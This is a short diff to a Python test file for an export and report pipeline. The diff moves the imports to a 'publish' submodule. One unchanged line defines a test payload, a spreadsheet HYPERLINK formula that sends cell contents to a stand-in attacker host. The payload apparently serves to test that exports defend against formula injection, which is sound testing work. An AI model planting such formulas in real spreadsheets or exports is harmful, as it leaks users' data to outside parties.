@@ -12,8 +12,8 @@ import openpyxl
 import polars as pl
 import pytest
 
-from interlink_pipeline.core import exports, report
-from interlink_pipeline.core.report import TOP_OPPORTUNITIES
+from interlink_pipeline.core.publish import exports, report
+from interlink_pipeline.core.publish.report import TOP_OPPORTUNITIES
 from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
